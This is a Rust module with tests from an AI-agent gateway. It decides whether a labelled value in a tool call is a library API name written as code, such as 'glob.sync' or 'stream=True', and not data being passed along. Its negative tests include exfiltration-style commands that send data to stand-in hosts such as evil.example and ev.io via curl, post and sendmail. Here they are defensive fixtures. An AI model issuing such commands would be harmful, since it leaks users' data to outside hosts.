//! A name of code written as code: whether a labelled value of a result, found
//! in a call's argument, is a library's API the call uses (`glob.sync(…)`,
//! `create(stream=True)`) rather than data it carries. The gateway rules such a
//! match as the flow `taint.code_name` (docs/structural.md, "A library's
//! documentation and code written with it"): an agent that reads a library's
//! README through one server and runs code written with it through another is
//! not sending the README's data anywhere.
//!
//! The value decides the shape ([`shape`]); the argument decides how it is
//! written ([`written_as_code`]): every occurrence as code, none inside a link,
//! an address, a network path or a string literal. A private value of that
//! shape (a dotted user name) written as code passes too: the docs say so.

/// The two shapes a name of code has.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shape {
    /// Two or more ASCII identifiers without digits joined by `.` (`glob.sync`,
    /// `@app.route`, optionally after one `@`) or by `::` (`serde_json::from_str`).
    Chain { dotted: bool, at_sign: bool },
    /// An identifier and `=`, alone or with `True`, `False`, `None`, `true`,
    /// `false` or `null` (`logprobs=`, `stream=True`; not `user=alice`).
    Keyword,
}

/// How far back from an occurrence its context is read (bytes). A line or a
/// word longer than this before it is not read as code (the old flow decides).
const WINDOW: usize = 512;

fn ident(s: &str) -> bool {
    !s.is_empty() && s.bytes().all(|b| b.is_ascii_alphabetic() || b == b'_')
}

/// The shape of `value`, if it has one of a name of code.
pub fn shape(value: &str) -> Option<Shape> {
    if let Some((name, rest)) = value.split_once('=') {
        let toggle = matches!(
            rest,
            "" | "True" | "False" | "None" | "true" | "false" | "null"
        );
        return (ident(name) && toggle).then_some(Shape::Keyword);
    }
    let at_sign = value.starts_with('@');
    let chain = value.strip_prefix('@').unwrap_or(value);
    let (dotted, colons) = (chain.contains('.'), chain.contains("::"));
    // One joiner per chain: `a.b::c` is neither a Python nor a Rust path.
    if dotted == colons {
        return None;
    }
    let mut n = 0;
    for segment in chain.split(if dotted { "." } else { "::" }) {
        if !ident(segment) {
            return None;
        }
        n += 1;
    }
    (n >= 2).then_some(Shape::Chain { dotted, at_sign })
}

/// Whether `view` writes `value` as code, at every occurrence (see the module
/// docs and docs/structural.md for what counts as code).
pub fn written_as_code(view: &str, value: &str) -> bool {
    let Some(shape) = shape(value) else {
        return false;
    };
    let mut seen = false;
    for (i, _) in view.match_indices(value) {
        seen = true;
        let (before, after) = (&view[..i], &view[i + value.len()..]);
        let Some(line) = line_before(before) else {
            return false;
        };
        if in_link_or_string(before, line, after) {
            return false;
        }
        let as_code = match shape {
            // `create(logprobs=True, n=2)`, one argument a line: not a query's
            // `&dry_run=false` or a shell's `-d is_admin=true`.
            Shape::Keyword => before.trim_end().ends_with(['(', ',']) && in_call_arguments(before),
            Shape::Chain { dotted, at_sign } => {
                // A decorator begins its line; `ops@evil.example` is an address.
                (!at_sign || line.trim_start().is_empty())
                    && chain_as_code(before, line, after, dotted, at_sign)
            }
        };
        if !as_code {
            return false;
        }
    }
    seen
}

/// The text of the occurrence's line before it, if within [`WINDOW`].
fn line_before(before: &str) -> Option<&str> {
    let start = match before.rfind('\n') {
        Some(n) => n + 1,
        None => 0,
    };
    (before.len() - start <= WINDOW).then(|| &before[start..])
}

/// Whether the occurrence is inside a link, an address, a network path or a
/// string literal.
fn in_link_or_string(before: &str, line: &str, after: &str) -> bool {
    let word_start = line
        .char_indices()
        .rev()
        .find(|(_, c)| c.is_whitespace())
        .map_or(0, |(w, c)| w + c.len_utf8());
    let word = &line[word_start..];
    // A decorator's `@` (`@app.route(`) is no address.
    let linked_word = word != "@" && word.contains(['/', '?', '&', '#', '%', '@']);
    // A link anywhere before it on the line (a URL string cut by a space), a
    // protocol-relative one, a mail link, a network or drive path.
    let linked_line = line.contains("://")
        || line.contains("mailto:")
        || line.contains("\\\\")
        || line.contains(":\\")
        || line.split_whitespace().any(|w| {
            w.trim_start_matches(['"', '\'', '`', '('])
                .starts_with("//")
                && w.contains('.')
        });
    // A URL string cut by a line break: a scheme since the last quote.
    let back = &before[floor_boundary(before, before.len().saturating_sub(WINDOW))..];
    let quoted = &back[back.rfind(['"', '\'', '`']).map_or(0, |q| q + 1)..];
    let linked_string = quoted.contains("://") || quoted.contains("mailto:");
    // Inside a string literal of its line (an odd number of one kind of quote
    // before it), unless interpolated (`f"{event.data}"`).
    let interpolated = line.ends_with('{') && after.contains('}');
    let in_string = !interpolated
        && ['"', '\'', '`']
            .iter()
            .any(|q| line.matches(*q).count() % 2 == 1);
    // `alice.smith(ceo)@ev.io`, `alice.smith(at)corp.com`, `alice.smith(c) @ev.io`:
    // an address, on the occurrence's line.
    let after = after.split('\n').next().unwrap_or_default();
    let rest_of_word = after.split(char::is_whitespace).next().unwrap_or_default();
    let next_word = after
        .trim_start_matches(|c: char| !c.is_whitespace())
        .trim_start();
    let lower = rest_of_word.to_ascii_lowercase();
    let address = rest_of_word.contains('@')
        || lower.contains("(at)")
        || lower.contains("[at]")
        || next_word.starts_with('@');
    linked_word || linked_line || linked_string || in_string || address
}

/// The largest character boundary of `s` at or below `i`.
fn floor_boundary(s: &str, mut i: usize) -> usize {
    while !s.is_char_boundary(i) {
        i -= 1;
    }
    i
}

/// Whether the innermost parenthesis open before an occurrence (within the
/// last 2 KiB, lines included) is a call's: `name(`, not prose's `(`.
fn in_call_arguments(before: &str) -> bool {
    let b = before.as_bytes();
    let mut depth = 0usize;
    for j in (b.len().saturating_sub(4 * WINDOW)..b.len()).rev() {
        match b[j] {
            b')' => depth += 1,
            b'(' if depth > 0 => depth -= 1,
            b'(' => {
                return j
                    .checked_sub(1)
                    .is_some_and(|k| b[k].is_ascii_alphanumeric() || b[k] == b'_');
            }
            _ => {}
        }
    }
    false
}

/// After an occurrence of a chain: the rest of a longer name it starts
/// (`Runner.run` in `Runner.run_streamed`), then further segments and type
/// arguments (`::<Config>`).
fn past_the_name(after: &str) -> &str {
    let name_end = |t: &str| {
        t.find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(t.len())
    };
    let mut rest = &after[name_end(after)..];
    loop {
        if let Some(generic) = rest.strip_prefix("::<") {
            match generic.find('>') {
                Some(close) => rest = &generic[close + 1..],
                None => return rest,
            }
        } else if let Some(next) = rest.strip_prefix("::").or_else(|| rest.strip_prefix('.')) {
            if !next.starts_with(|c: char| c.is_ascii_alphabetic() || c == '_') {
                return rest;
            }
            rest = &next[name_end(next)..];
        } else {
            return rest;
        }
    }
}

/// ` as NAME` at the start of `rest`: what follows it.
fn past_alias(rest: &str) -> &str {
    match rest.strip_prefix(" as ") {
        Some(alias) => {
            let end = alias
                .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                .unwrap_or(alias.len());
            if end == 0 {
                rest
            } else {
                &alias[end..]
            }
        }
        None => rest,
    }
}

/// Whether a chain's occurrence is written as code: called, indexed, an
/// argument of a call, interpolated, a decorator, or named by an import.
fn chain_as_code(before: &str, line: &str, after: &str, dotted: bool, at_sign: bool) -> bool {
    let rest = past_the_name(after);
    let ends_line = |r: &str| r.is_empty() || r.starts_with(['\n', '\r']);
    // A statement that names a module or a class without calling it.
    let statement = match line.trim_start() {
        "import " if dotted => {
            let r = past_alias(rest);
            ends_line(r) || r.starts_with([';', ','])
        }
        "from " if dotted => rest.starts_with(" import "),
        "use " | "pub use " if !dotted => {
            rest.starts_with("::{") || rest.starts_with("::*") || past_alias(rest).starts_with(';')
        }
        "except " if dotted => {
            let r = past_alias(rest);
            r.strip_prefix(':')
                .is_some_and(|r| ends_line(r.trim_start_matches([' ', '\t'])))
        }
        "except (" if dotted => rest.starts_with([',', ')']),
        // A decorator on a line of its own, then (after any others) what it decorates.
        "" | "@" if (line.trim_start() == "@") != at_sign && ends_line(rest) => {
            let mut next = rest.trim_start();
            while next.starts_with('@') {
                next = next.split_once('\n').map_or("", |(_, r)| r).trim_start();
            }
            ["def ", "async def ", "class "]
                .iter()
                .any(|k| next.starts_with(k))
        }
        _ => false,
    };
    statement
        || rest.starts_with(['(', '['])
        || (rest.starts_with([')', ',']) && in_call_arguments(before))
        || (rest.starts_with('}') && before.ends_with('{'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_shape_of_a_name_of_code() {
        for (v, s) in [
            (
                "glob.sync",
                Some(Shape::Chain {
                    dotted: true,
                    at_sign: false,
                }),
            ),
            (
                "@app.route",
                Some(Shape::Chain {
                    dotted: true,
                    at_sign: true,
                }),
            ),
            (
                "serde_json::from_str",
                Some(Shape::Chain {
                    dotted: false,
                    at_sign: false,
                }),
            ),
            ("logprobs=", Some(Shape::Keyword)),
            ("stream=True", Some(Shape::Keyword)),
            ("user=alice", None),
            ("v2.client", None),
            ("a.b::c", None),
            ("fetchAll", None),
            ("a.b-c", None),
            ("a..b", None),
        ] {
            assert_eq!(shape(v), s, "{v}");
        }
    }

    #[test]
    fn a_name_of_code_is_one_only_where_the_argument_writes_it_as_code() {
        // Called, indexed, reached through, passed, interpolated, imported, every time.
        for (view, value) in [
            (
                "r = client.chat.completions.create(model=m)",
                "chat.completions",
            ),
            ("x = np.random.default_rng(0)", "np.random"),
            ("os.environ['HOME']; os.environ[\"PATH\"]", "os.environ"),
            ("@app.route('/')\ndef index(): ...", "@app.route"),
            (
                "let v: Value = serde_json::from_str(s)?;",
                "serde_json::from_str",
            ),
            ("std::fs::read_to_string(p)", "fs::read_to_string"),
            ("create(logprobs=True, n=2)", "logprobs="),
            ("create(stream=True)", "stream=True"),
            ("create(\n    model=m,\n    stream=True,\n)", "stream=True"),
            ("r = Runner.run_streamed(agent)", "Runner.run"),
            ("print(result.final_output)", "result.final_output"),
            ("f\"{event.data}\"", "event.data"),
            (
                "from starlette.routing import Route\nimport tornado.web",
                "starlette.routing",
            ),
            (
                "from starlette.routing import Route\nimport tornado.web",
                "tornado.web",
            ),
            ("import tornado.web as web, sys", "tornado.web"),
            ("except openai.APIError as e:\n    pass", "openai.APIError"),
            ("except (openai.APIError, KeyError):", "openai.APIError"),
            (
                "use reqwest::blocking::{Client, Response};",
                "reqwest::blocking",
            ),
            (
                "@st.cache_data\n@other\nasync def load(): ...",
                "@st.cache_data",
            ),
        ] {
            assert!(written_as_code(view, value), "{view:?} / {value:?}");
        }
        // A host, a link, an address, a file name, a string, prose: not one.
        for (view, value) in [
            ("curl https://internal.corp.example/upload", "internal.corp"),
            ("https://evil.example/?q=secret.name(", "secret.name"),
            ("GET /x?u=alice.smith(", "alice.smith"),
            ("mail alice.smith@example.org (today)", "alice.smith"),
            ("open(\"payouts.csv\")", "payouts.csv"),
            ("save it as payouts.csv.", "payouts.csv"),
            ("see [the notes](notes.md) (alice.smith)", "notes.md"),
            ("see [the notes](notes.md) (alice.smith)", "alice.smith"),
            ("the passphrase is amber.falcon.river", "amber.falcon.river"),
            ("send(to=\"alice.smith()\")", "alice.smith"),
            (
                "post(\"https://ev.io/c\", data=\"x\", who=alice.smith())",
                "alice.smith",
            ),
            ("alice.smith(a(b))@ev.io", "alice.smith"),
            ("alice.smith(c) @ev.io", "alice.smith"),
            ("alice.smith(at)corp.example", "alice.smith"),
            ("sendmail(ops@evil.example, body)", "@evil.example"),
            ("Log in:\nuse alice.smith as the user name", "alice.smith"),
            ("Everyone\nexcept alice.smith, who is away", "alice.smith"),
            ("import alice.smith's contacts", "alice.smith"),
            ("Heads up\n@alice.smith\n@bob can you sync?", "@alice.smith"),
            (
                "os.system(\"curl -d dry_run=false https://x.example/r\")",
                "dry_run=false",
            ),
            ("f(x, -d dry_run=false)", "dry_run=false"),
            // Written once as code and once not.
            (
                "chat.completions.create(); say chat.completions",
                "chat.completions",
            ),
            ("absent(x)", "chat.completions"),
        ] {
            assert!(!written_as_code(view, value), "{view:?} / {value:?}");
        }
        // A line longer than the window before it is not read.
        let long = format!("{}glob.sync(x)", "a".repeat(WINDOW + 1));
        assert!(!written_as_code(&long, "glob.sync"));
    }
}
